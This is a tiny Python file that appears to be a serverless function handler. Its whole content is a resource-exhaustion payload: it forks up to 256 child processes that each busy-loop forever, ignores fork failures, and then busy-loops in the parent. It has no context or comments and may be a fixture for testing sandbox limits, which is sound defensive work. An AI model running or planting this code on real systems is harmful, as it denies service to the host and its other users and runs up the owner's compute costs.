import os


def handler(event, context):
    for _ in range(256):
        try:
            if os.fork() == 0:
                while True:
                    pass
        except OSError:
            continue
    while True:
        pass
